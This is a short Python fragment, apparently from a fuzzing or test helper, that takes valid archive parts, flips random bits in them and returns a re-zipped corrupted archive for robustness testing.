    parts = {name: bytearray(p.encode() if isinstance(p, str) else p) for name, p in honest_parts(kind).items()}
    for _ in range(flips):
        part = rng.choice(list(parts.values()))
        part[rng.randrange(len(part))] ^= 1 << rng.randrange(8)
    return zipped({name: bytes(part) for name, part in parts.items()})
